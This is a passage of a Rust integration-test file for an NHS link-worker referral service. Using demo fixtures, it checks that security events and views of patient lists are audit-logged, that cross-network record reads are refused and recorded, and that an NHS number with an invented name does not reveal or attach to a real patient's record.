        "Wrong email or password for nobody@unknown.example",
        "Discarded a suspected spam referral",
        "Exported the audit log",
    ] {
        assert!(all.body.contains(seen), "{seen}: {}", all.body);
    }
    assert!(!all.body.contains("Signed in<"), "only security events");

    let mut pcn = app.signed_in("admin@pcn-a.example").await;
    let own = pcn.get("/admin/security").await;
    assert!(
        own.body
            .contains("Wrong email or password for lw@pcn-a.example")
    );
    assert!(
        !own.body.contains("nobody@unknown.example") && !own.body.contains("Exported"),
        "another network's admin sees their own organisation's events only"
    );
    let mut worker = app.signed_in("lw@pcn-a.example").await;
    assert_eq!(
        worker.get("/admin/security").await.status,
        StatusCode::FORBIDDEN
    );
}

async fn events_by(
    app: &TestApp,
    actor: &str,
    action: AuditAction,
) -> Vec<linkwork_domain::audit::AuditEvent> {
    app.store()
        .audit_events(
            &AuditFilter {
                action: Some(action.code().into()),
                actor: Some(actor.into()),
                ..Default::default()
            },
            PageRequest::new(1, 1000),
        )
        .await
        .unwrap()
        .items
}

/// Finding 8: the waiting list, caseloads and sent referrals show names,
/// dates of birth and NHS numbers and recorded nothing; a refused attempt
/// to read another network's record left no trace. Each list view records
/// who saw which people on which list (one event per person, so each
/// person's history names it), and each refusal is recorded for the
/// network whose record it was.
async fn lists_of_people_and_refused_reads_are_audited(app: TestApp) {
    use std::collections::BTreeSet;
    let app = app.with_demo().await;
    let lead = "teamlead.north@riverside.example";
    let north = app
        .store()
        .user_credentials(&lead.parse().unwrap())
        .await
        .unwrap()
        .unwrap()
        .user
        .org_id;
    let mut c = app.demo_user(lead).await;
    let page = c.get("/waiting-list").await;
    assert_eq!(page.status, StatusCode::OK);
    // The people of the referrals the page links to.
    let marker = "<a class=\"nhsuk-link\" href=\"/referrals/";
    let mut shown = BTreeSet::new();
    for part in page.body.split(marker).skip(1) {
        let id: linkwork_domain::ReferralId = part[..36].parse().unwrap();
        let referral = app.store().referral(id).await.unwrap().unwrap();
        shown.insert(referral.person_id.to_string());
    }
    assert!(!shown.is_empty());
    let listed = events_by(&app, lead, AuditAction::PeopleListed).await;
    assert!(!listed.is_empty());
    assert!(
        listed
            .iter()
            .all(|e| e.detail.starts_with("Waiting list of "))
    );
    assert!(listed.iter().all(|e| e.org_id == Some(north)));
    let recorded: BTreeSet<String> = listed.iter().filter_map(|e| e.entity_id.clone()).collect();
    assert_eq!(recorded, shown, "exactly the people shown");

    let worker = "linkworker.north@riverside.example";
    app.demo_user(worker).await.get("/caseload").await;
    let caseload = events_by(&app, worker, AuditAction::PeopleListed).await;
    assert!(!caseload.is_empty());
    assert!(caseload.iter().all(|e| e.detail == "Own caseload, page 1"));

    let gp = "gp.north@riverside.example";
    app.demo_user(gp).await.get("/referrals/sent").await;
    let sent = events_by(&app, gp, AuditAction::PeopleListed).await;
    assert!(!sent.is_empty());
    assert!(
        sent.iter()
            .all(|e| e.detail.starts_with("Referrals sent by"))
    );

    // Someone from the south network tries a north person and referral.
    let someone = app
        .store()
        .list_referrals(
            &linkwork_storage::ReferralFilter {
                pcn_id: Some(north),
                ..Default::default()
            },
            linkwork_storage::ReferralOrder::OldestFirst,
            PageRequest::new(1, 1),
        )
        .await
        .unwrap()
        .items
        .remove(0);
    let south = "linkworker.south@riverside.example";
    let mut outsider = app.demo_user(south).await;
    let person = outsider
        .get(&format!("/people/{}", someone.person.id))
        .await;
    assert_eq!(person.status, StatusCode::NOT_FOUND);
    let referral = outsider
        .get(&format!("/referrals/{}", someone.referral.id))
        .await;
    assert_eq!(referral.status, StatusCode::NOT_FOUND);
    let refused = events_by(&app, south, AuditAction::AccessRefused).await;
    let entities: BTreeSet<_> = refused.iter().filter_map(|e| e.entity_id.clone()).collect();
    assert!(entities.contains(&someone.person.id.to_string()));
    assert!(entities.contains(&someone.referral.id.to_string()));
    assert!(
        refused.iter().all(|e| e.org_id == Some(north)),
        "the north network's to see"
    );
    // And the north network's admins see it among their security events.
    let mut admin = app.demo_user("admin@riverside.example").await;
    assert!(
        admin
            .get("/admin/security")
            .await
            .body
            .contains("was refused a person outside its network")
    );
}

/// The professional form's fields for a referral of `given family`, born
/// `day/month/year`, with NHS number `nhs`.
fn form_fields<'a>(
    nhs: &'a str,
    given: &'a str,
    family: &'a str,
    (day, month, year): (&'a str, &'a str, &'a str),
) -> Vec<(&'a str, &'a str)> {
    vec![
        ("nhs_number", nhs),
        ("given_name", given),
        ("family_name", family),
        ("dob_day", day),
        ("dob_month", month),
        ("dob_year", year),
        ("postcode", "RV1 3BQ"),
        ("phone", "07700 900 982"),
        ("contact_method", "phone"),
        ("needs", "loneliness"),
        ("urgency", "routine"),
        ("consent_referral", "yes"),
        ("consent_contact", "yes"),
        ("referrer_name", "Dr Evans"),
        ("referrer_phone", "01632 960 001"),
    ]
}

async fn refer_through_form(c: &mut Client, fields: &[(&str, &str)]) -> Reply {
    let page = c.get("/referrals/new").await;
    let key = page.form_key().expect("a form key");
    let mut all = fields.to_vec();
    all.push(("form_key", &key));
    c.post("/referrals/new", &all).await
}

fn referral_id_in(location: &str) -> linkwork_domain::ReferralId {
    location
        .trim_start_matches("/referrals/")
        .split(['?', '/'])
        .next()
        .unwrap()
        .parse()
        .unwrap()
}

/// Finding 4: a referrer who typed any NHS number with an invented name was
/// shown the real person's name, date of birth and postcode; through the
/// API the invented name was attached to the real person, whose name the
/// referral's GET then returned. A record is now offered only when the NHS
/// number and date of birth (or name, date of birth and postcode) agree,
/// described by what the referrer typed; a referral whose details disagree
/// with the record holding its NHS number gets its own record and the team
/// checks who it is.
async fn an_nhs_number_alone_finds_no_one(app: TestApp) {
    let t = app.tree().await;
    app.app
        .set_pcn_coverage(
            linkwork_app::admin::Caller::Operator,
            &t.pcn_a,
            &["RV1".into()],
        )
        .await
        .unwrap();
    app.user("gp@practice-a.example", t.practice_a.id, &[Role::Referrer])
        .await;
    app.user("lw@pcn-a.example", t.pcn_a.id, &[Role::LinkWorker])
        .await;
    use linkwork_storage_testsuite::referral_fixtures::{add_referral, person};
    let nadia = person(
        t.pcn_a.id,
        "Nadia",
        "Smith",
        Some("943 476 5919"),
        Some("RV1 6EL"),
    );
    let nadia_id = nadia.id;
    add_referral(app.store(), nadia, linkwork_domain::time::now()).await;
    let hidden = ["Nadia", "RV1 6EL", "7 March 1950"];

    // An invented name and date of birth: nothing is offered; the referral
    // gets its own record, without the number, for the team to check.
    let mut gp = app.signed_in("gp@practice-a.example").await;
    let invented = refer_through_form(
        &mut gp,
        &form_fields("943 476 5919", "Eve", "Liar", ("1", "1", "1990")),
    )
    .await;
    assert_eq!(invented.status, StatusCode::SEE_OTHER, "{}", invented.body);
    let id = referral_id_in(invented.location().unwrap());
    let referral = app.store().referral(id).await.unwrap().unwrap();
    assert_ne!(referral.person_id, nadia_id, "not attached to Nadia");
    let record = app
        .store()
        .person(referral.person_id)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(record.details.full_name(), "Eve Liar");
    assert_eq!(record.details.nhs_number, None);
    assert!(
        referral
            .identity_check
            .as_deref()
            .unwrap()
            .contains("check who the person is")
    );
    let status_page = gp.get(&format!("/referrals/{id}")).await;
    for word in hidden {
        assert!(
            !status_page.body.contains(word),
            "{word} shown to the referrer"
        );
    }
    let mut lw = app.signed_in("lw@pcn-a.example").await;
    assert!(
        lw.get(&format!("/referrals/{id}"))
            .await
            .body
            .contains("Check who this is")
    );
    assert!(
        lw.get("/waiting-list")
            .await
            .body
            .contains("Check identity")
    );

    // The right date of birth: offered, described by what was typed alone.
    let asked = refer_through_form(
        &mut gp,
        &form_fields("9434765919", "Eve", "Liar", ("7", "3", "1950")),
    )
    .await;
    assert_eq!(asked.status, StatusCode::OK, "{}", asked.body);
    assert!(
        asked
            .body
            .contains("record with NHS number 943 476 5919 and date of birth 7 March 1950"),
        "{}",
        asked.body
    );
    for word in ["Nadia", "RV1 6EL"] {
        assert!(!asked.body.contains(word), "{word} shown to the referrer");
    }

    // Through the API: an invented name is never attached, and the GET
    // answers with what was sent.
    let token = {
        let admin = app
            .user("admin@icb.example", t.icb.id, &[Role::Admin])
            .await;
        let principal = Principal {
            user: admin,
            session_hash: String::new(),
            csrf_token: String::new(),
            ip: None,
        };
        app.app
            .issue_api_token(&principal, &t.practice_a.id.to_string(), "EMIS bridge")
            .await
            .unwrap()
            .secret
    };
    let mut api = app.client();
    let mut body = api_referral();
    body["person"]["nhs_number"] = "943 476 5919".into();
    body["person"]["given_name"] = "Eve".into();
    body["person"]["family_name"] = "Liar".into();
    body["person"]["date_of_birth"] = "1990-01-01".into();
    let sent = post_body(
        &mut api,
        "/api/v1/referrals",
        &token,
        "application/json",
        body.to_string(),
    )
    .await;
    assert_eq!(sent.status, StatusCode::CREATED, "{}", sent.body);
    let sent: Value = serde_json::from_str(&sent.body).unwrap();
    let followed = api
        .send(
            Request::get(format!(
                "/api/v1/referrals/{}",
                sent["id"].as_str().unwrap()
            ))
            .header(header::AUTHORIZATION, format!("Bearer {token}"))
            .body(Body::empty())
            .unwrap(),
        )
        .await;
    assert_eq!(followed.status, StatusCode::OK);
    assert!(
        followed.body.contains("\"given_name\":\"Eve\""),
        "{}",
        followed.body
    );
    for word in hidden {
        assert!(!followed.body.contains(word), "{word} in {}", followed.body);
    }
    // The number and date of birth with another name: still not attached.
    body["person"]["date_of_birth"] = "1950-03-07".into();
    let sent = post_body(
        &mut api,
        "/api/v1/referrals",
        &token,
        "application/json",
        body.to_string(),
    )
    .await;
    let sent: Value = serde_json::from_str(&sent.body).unwrap();
    let r = app
        .store()
        .referral(sent["id"].as_str().unwrap().parse().unwrap())
        .await
        .unwrap()
        .unwrap();
    assert_ne!(r.person_id, nadia_id);
    assert!(r.identity_check.is_some());
    // Everything agreeing: the same person.
    body["person"]["given_name"] = "Nadia".into();
    body["person"]["family_name"] = "Smith".into();
    let sent = post_body(
        &mut api,
        "/api/v1/referrals",
        &token,
        "application/json",
        body.to_string(),
    )
    .await;
    let sent: Value = serde_json::from_str(&sent.body).unwrap();
    let r = app
        .store()
        .referral(sent["id"].as_str().unwrap().parse().unwrap())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(r.person_id, nadia_id);
    assert!(r.identity_check.is_none());
}

on_both_backends!(
    an_nhs_number_alone_finds_no_one,
    lists_of_people_and_refused_reads_are_audited,
    admins_see_the_security_events_of_their_organisations,
    a_stranger_cannot_lock_an_account_or_a_practice_out,
    guesses_sent_together_are_counted_one_by_one,
    the_public_form_limit_holds_for_submissions_sent_together,
    a_set_password_link_works_once_however_fast_it_is_sent,
    the_audit_log_filters_and_shows_uk_dates,
    page_numbers_beyond_range_are_past_the_end,
    the_past_target_count_matches_the_tagged_rows,
    a_flood_of_sign_ins_is_refused_not_hashed,
    huge_distances_answer_at_once,
    typed_text_is_clean_and_bounded,
    exported_csv_cells_are_never_formulas,
    deeply_nested_fhir_bodies_are_refused_not_fatal,
    sign_in_never_redirects_off_site,
    only_addresses_added_by_trusted_proxies_are_believed,
);
